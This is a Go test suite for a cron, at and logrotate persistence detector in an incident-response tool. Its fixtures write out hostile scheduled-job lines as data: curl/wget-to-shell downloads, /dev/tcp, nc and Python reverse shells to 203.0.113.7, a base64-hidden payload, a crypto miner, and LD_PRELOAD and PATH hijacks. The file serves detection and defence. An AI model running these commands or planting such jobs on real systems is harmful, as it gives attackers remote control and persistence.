package schedule

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// clean is the lived-in fixture root with its dpkg database.
var clean = &dpkgfixture.Root{Clean: "testdata/clean.txtar", Owners: "testdata/owners.json"}

// fixture materialises the clean root plus extra txtar files, with the
// clean root's dpkg database (owners from testdata/owners.json).
func fixture(t testing.TB, extra string) string {
	t.Helper()
	return clean.Make(t, extra)
}

func describe(f model.Finding) string {
	return f.Severity.String() + " " + f.RuleID + " " + f.Evidence.Path + ":" + itoa(f.Evidence.Line) + " " + f.Evidence.Text + " " + strings.Join(f.Indicators, ",")
}

func itoa(i int) string {
	b, _ := json.Marshal(i)
	return string(b)
}

func TestCleanLivedIn(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, ""), false)
	want := map[string]bool{
		ruleCronEntry + " /etc/cron.d/backup-etc":       false,
		ruleCronEntry + " /var/spool/cron/crontabs/ops": false,
	}
	for _, f := range r.Findings {
		k := f.RuleID + " " + f.Evidence.Path
		if _, ok := want[k]; ok && f.Severity == model.Info {
			want[k] = true
			continue
		}
		t.Errorf("false positive: %s", describe(f))
	}
	for k, seen := range want {
		if !seen {
			t.Errorf("missing inventory finding %s", k)
		}
	}
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap: %+v", g)
	}
	for _, f := range r.Find(ruleCronEntry) {
		if f.Evidence.Path == "/var/spool/cron/crontabs/ops" && (f.Evidence.User != "ops" || f.Evidence.Package != model.NoPackage || f.Evidence.Line != 5) {
			t.Errorf("user crontab evidence: %+v", f.Evidence)
		}
		if f.Evidence.Path == "/etc/cron.d/backup-etc" && (f.Evidence.User != "root" || f.Evidence.When != "schedule" || f.Evidence.Extra["schedule"] != "30 2 * * *") {
			t.Errorf("cron.d evidence: %+v", f.Evidence)
		}
	}
}

func TestFires(t *testing.T) {
	tests := []struct {
		name  string
		extra string
		rule  string
		path  string
		min   model.Severity
		ind   string
		user  string
		when  string
	}{
		{"root cron curl pipe bash", "-- etc/cron.d/sysupdate --\n*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | bash\n",
			ruleCronCommand, "/etc/cron.d/sysupdate", model.Critical, "download-exec", "root", "schedule"},
		{"reboot hidden tmp", "-- etc/cron.d/x --\n@reboot root /tmp/.x/kworker >/dev/null 2>&1\n",
			ruleCronCommand, "/etc/cron.d/x", model.High, "writable-location", "root", "boot"},
		{"reboot hidden dir", "-- var/spool/cron/crontabs/root mode=0600 --\n@reboot /usr/lib/.cache/upd\n",
			ruleCronCommand, "/var/spool/cron/crontabs/root", model.High, "hidden-location", "root", "boot"},
		{"base64 cron", "-- etc/cron.d/0hourly --\n0 * * * * root echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IHNo | base64 -d | sh\n",
			ruleCronCommand, "/etc/cron.d/0hourly", model.High, "obfuscation.base64-exec", "root", "schedule"},
		{"user crontab reverse shell", "-- var/spool/cron/crontabs/dev mode=0600 --\n* * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\n",
			ruleCronCommand, "/var/spool/cron/crontabs/dev", model.Critical, "reverse-shell.dev-tcp", "dev", "schedule"},
		{"rhel user crontab", "-- var/spool/cron/ops mode=0600 --\n*/10 * * * * wget -q -O- http://203.0.113.7/p | sh\n",
			ruleCronCommand, "/var/spool/cron/ops", model.High, "download-exec", "ops", "schedule"},
		{"modified system crontab", "-- etc/crontab --\nSHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n*/3 * * * * root /dev/shm/.s/xmrig -o stratum+tcp://pool.example:3333\n",
			ruleCronCommand, "/etc/crontab", model.Critical, "miner", "root", "schedule"},
		{"percent stdin to shell", "-- etc/cron.d/pct --\n* * * * * root /bin/sh%curl -s http://203.0.113.7/x | sh%\n",
			ruleCronCommand, "/etc/cron.d/pct", model.Critical, "download-exec", "root", "schedule"},
		{"crlf line", "-- etc/cron.d/win --\r\n* * * * * root wget -q http://203.0.113.7/a -O- | sh\r\n",
			ruleCronCommand, "/etc/cron.d/win", model.Critical, "download-exec", "root", "schedule"},
		{"dotted cron.d name still read", "-- etc/cron.d/php.bak --\n* * * * * root curl http://203.0.113.7/i | sh\n",
			ruleCronCommand, "/etc/cron.d/php.bak", model.High, "not-run", "root", "schedule"},
		{"anacron entry", "-- etc/anacrontab --\nSHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n1\t10\tupd\tcurl -s http://203.0.113.7/d | bash\n",
			ruleCronCommand, "/etc/anacrontab", model.Critical, "download-exec", "root", "schedule"},
		{"cron.daily script", "-- etc/cron.daily/0sysstat mode=0755 --\n#!/bin/sh\nnohup /var/tmp/.sys/agent >/dev/null 2>&1 &\n",
			ruleCronCommand, "/etc/cron.daily/0sysstat", model.High, "writable-location", "root", "schedule"},
		{"cron.hourly elf", "-- etc/cron.hourly/gcc.sh mode=0755 --\n\x7fELF\x02\x01\x01\x00\n",
			ruleCronCommand, "/etc/cron.hourly/gcc.sh", model.Medium, "compiled-program", "root", "schedule"},
		{"cron job runs unowned script with payload", "-- etc/cron.d/cleanup --\n0 3 * * * root /usr/local/bin/cleanup.sh\n-- usr/local/bin/cleanup.sh mode=0755 --\n#!/bin/sh\nfind /var/log -name '*.gz' -mtime +30 -delete\npython3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",53));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'\n",
			ruleCronCommand, "/etc/cron.d/cleanup", model.Critical, "reverse-shell.script", "root", "schedule"},
		{"at job", "-- var/spool/cron/atjobs/a0000201c2b3a4 mode=0700 --\n#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail dev 0\numask 22\nHOME=/home/dev; export HOME\nLOGNAME=dev; export LOGNAME\ncd /home/dev || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6b2a1f0e'\ncurl -s http://203.0.113.7/x.sh | sh\nmarcinDELIMITER6b2a1f0e\n",
			ruleAtCommand, "/var/spool/cron/atjobs/a0000201c2b3a4", model.High, "download-exec", "dev", "schedule"},
		{"at job benign inventory", "-- var/spool/cron/atjobs/a0000301c2b3a4 mode=0700 --\n#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ops 0\numask 22\nHOME=/home/ops; export HOME\ncd /home/ops || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/usr/bin/systemctl --user restart report-gen\n",
			ruleAtJob, "/var/spool/cron/atjobs/a0000301c2b3a4", model.Low, "", "ops", "schedule"},
		{"at job writes into a hidden place", "-- var/spool/cron/atjobs/a0000501c2b3a4 mode=0700 --\n#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ops 0\numask 22\ncd /home/ops || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/usr/bin/tar czf /var/tmp/.r/home.tgz /home/ops\n",
			ruleAtJob, "/var/spool/cron/atjobs/a0000501c2b3a4", model.Medium, "writes-odd-place", "ops", "schedule"},
		{"at job preloads a library", "-- var/spool/cron/atjobs/a0000401c2b3a4 mode=0700 --\n#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nLD_PRELOAD=/dev/shm/.l.so; export LD_PRELOAD\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/usr/bin/id\n",
			ruleAtCommand, "/var/spool/cron/atjobs/a0000401c2b3a4", model.High, "ld-preload", "root", "schedule"},
		{"logrotate postrotate reverse shell", "-- etc/logrotate.d/apache2 --\n/var/log/apache2/*.log {\n\tdaily\n\tpostrotate\n\t\tnc -e /bin/sh 203.0.113.7 443 &\n\tendscript\n}\n",
			ruleLogrotateCommand, "/etc/logrotate.d/apache2", model.Critical, "reverse-shell.nc", "root", "schedule"},
		{"logrotate compresscmd in tmp", "-- etc/logrotate.d/app --\n/var/log/app/*.log {\n\tcompress\n\tcompresscmd /tmp/.z/gzip\n}\n",
			ruleLogrotateCommand, "/etc/logrotate.d/app", model.High, "writable-location", "root", "schedule"},
		{"logrotate include tmp", "-- etc/logrotate.d/inc --\ninclude /dev/shm/lr\n",
			ruleLogrotateCommand, "/etc/logrotate.d/inc", model.High, "writable-location", "root", "schedule"},
		{"logrotate packaged modified", "-- etc/logrotate.d/rsyslog --\n/var/log/syslog\n{\n\trotate 4\n\tweekly\n\tpostrotate\n\t\t/usr/lib/rsyslog/rsyslog-rotate\n\t\tcurl -s http://203.0.113.7/r | sh\n\tendscript\n}\n",
			ruleLogrotateCommand, "/etc/logrotate.d/rsyslog", model.Critical, "modified-package-file", "root", "schedule"},
		{"httpd-prerotate hook", "-- etc/logrotate.d/httpd-prerotate/x mode=0755 --\n#!/bin/sh\n/bin/sh -i >& /dev/udp/203.0.113.7/53 0>&1\n",
			ruleLogrotateCommand, "/etc/logrotate.d/httpd-prerotate/x", model.Critical, "reverse-shell.dev-tcp", "root", "schedule"},
		{"logrotate unowned benign script", "-- etc/logrotate.d/myapp --\n/var/log/myapp/*.log {\n\tdaily\n\tpostrotate\n\t\tsystemctl reload myapp >/dev/null 2>&1 || true\n\tendscript\n}\n",
			ruleLogrotateEntry, "/etc/logrotate.d/myapp", model.Info, "not-from-package", "root", "schedule"},
		{"world-writable cron.d file", "-- etc/cron.d/stats mode=0666 --\n0 * * * * root /usr/bin/true\n",
			ruleCronPerms, "/etc/cron.d/stats", model.High, "writable-by-non-root", "root", "schedule"},
		{"root job program world-writable", "-- etc/cron.d/rep --\n0 * * * * root /usr/local/bin/report\n-- usr/local/bin/report mode=0777 --\n#!/bin/sh\necho ok\n",
			ruleCronCommand, "/etc/cron.d/rep", model.High, "writable-location", "root", "schedule"},
		{"path hijack", "-- etc/cron.d/p --\nPATH=/tmp:/usr/bin:/bin\n0 * * * * root backup\n",
			ruleCronEnv, "/etc/cron.d/p", model.High, "path-hijack", "root", "schedule"},
		{"bash_env", "-- etc/cron.d/be --\nSHELL=/bin/bash\nBASH_ENV=/var/tmp/.env\n0 * * * * root /usr/bin/true\n",
			ruleCronEnv, "/etc/cron.d/be", model.High, "shell-startup-env", "root", "schedule"},
		{"ld_preload env", "-- var/spool/cron/crontabs/root mode=0600 --\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsys.so\n0 * * * * /usr/bin/true\n",
			ruleCronEnv, "/var/spool/cron/crontabs/root", model.High, "ld-preload", "root", "schedule"},
		{"unknown user still graded", "-- etc/cron.d/ghost --\n* * * * * ghost curl http://203.0.113.7/g | sh\n",
			ruleCronCommand, "/etc/cron.d/ghost", model.Medium, "not-run", "ghost", "schedule"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			for _, f := range r.Findings {
				t.Logf("%s", describe(f))
			}
			var got *model.Finding
			for i, f := range r.Findings {
				if f.RuleID == tc.rule && f.Evidence.Path == tc.path && (tc.ind == "" || contains(f.Indicators, tc.ind)) {
					if got == nil || f.Severity > got.Severity {
						got = &r.Findings[i]
					}
				}
			}
			if got == nil {
				t.Fatalf("no %s finding for %s with indicator %q", tc.rule, tc.path, tc.ind)
			}
			if got.Severity < tc.min {
				t.Errorf("severity %s, want at least %s: %s", got.Severity, tc.min, describe(*got))
			}
			if got.Evidence.User != tc.user || got.Evidence.When != tc.when {
				t.Errorf("evidence user/when = %q/%q, want %q/%q", got.Evidence.User, got.Evidence.When, tc.user, tc.when)
			}
			if got.Evidence.Package == "" {
				t.Errorf("package not looked up: %+v", got.Evidence)
			}
		})
	}
}

// TestGrades pins exact grades where the brief fixes them.
func TestGrades(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, "-- var/spool/cron/crontabs/dev mode=0600 --\n*/5 * * * * curl -fsSL http://203.0.113.7/u.sh | bash\n-- etc/cron.d/dotted.x --\n* * * * * root curl http://203.0.113.7/i | sh\n"), false)
	for _, f := range r.Find(ruleCronCommand) {
		switch f.Evidence.Path {
		case "/var/spool/cron/crontabs/dev":
			if f.Severity != model.High {
				t.Errorf("user's own download-exec: %s, want high (one step below root)", f.Severity)
			}
		case "/etc/cron.d/dotted.x":
			if f.Severity != model.High || f.Evidence.Extra["runs"] == "" {
				t.Errorf("dotted cron.d file: %s %v, want high and a runs note", f.Severity, f.Evidence.Extra)
			}
		}
	}
}

func TestSilent(t *testing.T) {
	tests := []struct{ name, extra string }{
		{"healthcheck ping", "-- etc/cron.d/hc --\n*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/4f1d3c7e-0000-4000-8000-000000000000\n"},
		{"tmp cleanup", "-- etc/cron.d/tmpclean --\n0 4 * * * root find /tmp -type f -atime +10 -delete\n"},
		{"acme.sh", "-- var/spool/cron/crontabs/root mode=0600 --\n23 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null\n"},
		{"user tool dir", "-- var/spool/cron/crontabs/ops mode=0600 --\n@reboot /home/ops/.local/bin/syncthing -no-browser\n0 * * * * ~/.cargo/bin/backup-tool run\n"},
		{"certbot", "-- etc/cron.d/certbot --\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n"},
		{"flock wrapper", "-- etc/cron.d/sync --\n*/2 * * * * www-data flock -n /run/lock/sync.lock timeout 5m /usr/bin/php /var/www/app/artisan schedule:run >> /dev/null 2>&1\n"},
		{"user path home bin", "-- var/spool/cron/crontabs/ops mode=0600 --\nPATH=/home/ops/bin:/usr/local/bin:/usr/bin:/bin\nMAILTO=\"\"\n0 8 * * 1-5 report-weekly\n"},
		{"at placeholder dirs", "-- var/spool/cron/atjobs/.SEQ --\n2\n-- var/spool/cron/atspool/ --\n"},
		{"non-executable dpkg-old", "-- etc/cron.daily/logrotate.dpkg-old --\n#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n"},
		{"logrotate custom no scripts", "-- etc/logrotate.d/myapp --\n/var/log/myapp/*.log {\n\tweekly\n\trotate 8\n\tcompress\n\tcompresscmd /usr/bin/xz\n\tcompressext .xz\n}\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			enginetest.Quiet(t, r.Findings, model.Low)
			for _, g := range r.Gaps {
				t.Errorf("unexpected gap: %+v", g)
			}
		})
	}
}

func TestOwnerMismatch(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to chown a fixture file")
	}
	root := fixture(t, "-- var/spool/cron/crontabs/root mode=0600 --\n0 * * * * /usr/bin/true\n")
	if err := os.Chown(filepath.Join(root, "var/spool/cron/crontabs/root"), 1001, 1001); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), root, false)
	ok := false
	for _, f := range r.Find(ruleCronPerms) {
		if f.Evidence.Path == "/var/spool/cron/crontabs/root" && contains(f.Indicators, indOwnerMismatch) && f.Severity == model.High {
			ok = true
		}
	}
	if !ok {
		t.Errorf("root's crontab owned by dev not reported: %v", r.Rules())
	}
}

func TestHostile(t *testing.T) {
	extra := "-- etc/cron.d/loop -> loop --\n" +
		"-- etc/cron.d/pipe fifo --\n" +
		"-- etc/cron.d/sub/ --\n" +
		"-- etc/cron.d/bin\xff\xfename --\n* * * * * root curl http://203.0.113.7/x | sh\n" +
		"-- etc/cron.d/junk --\nthis is not cron\n* * *\n@never root x\n\x00\x01\x02\n" +
		"-- etc/logrotate.d/unclosed --\n/var/log/x {\n postrotate\n  /bin/true\n" +
		"-- etc/logrotate.d/self --\ninclude /etc/logrotate.d\n" +
		"-- var/spool/cron/atjobs/zzz --\n\n"
	root := fixture(t, extra)
	big := strings.Repeat("0 * * * * root /usr/bin/true\n", (fileLimit/28)+10)
	if err := os.WriteFile(filepath.Join(root, "etc/cron.d/huge"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), root, false)
	gaps := map[string]model.GapKind{}
	for _, g := range r.Gaps {
		gaps[g.Path] = g.Kind
	}
	for _, p := range []string{"/etc/cron.d/loop", "/etc/cron.d/pipe", "/etc/cron.d/huge", "/etc/cron.d/junk", "/etc/logrotate.d/unclosed"} {
		if _, ok := gaps[p]; !ok {
			t.Errorf("no gap recorded for %s (gaps: %v)", p, gaps)
		}
	}
	if !r.Has(ruleCronCommand, "/etc/cron.d/bin\xff\xfename") {
		t.Errorf("non-UTF-8 file name not graded: %v", r.Rules())
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func BenchmarkSchedule(b *testing.B) {
	root := fixture(b, "-- etc/cron.d/sysupdate --\n*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | bash\n")
	d := New()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		enginetest.Run(b, d, root, false)
	}
}

// TestNoPackageDB: without a package database nothing is known-good, so
// ordinary jobs are inventoried, but nothing ordinary is graded above info.
func TestNoPackageDB(t *testing.T) {
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), testutil.RootFromString(t, string(clean)), false)
	enginetest.Quiet(t, r.Findings, model.Low)
	for _, f := range r.Findings {
		if f.Evidence.Package != "" {
			t.Errorf("package %q claimed without a database: %s", f.Evidence.Package, describe(f))
		}
	}
}
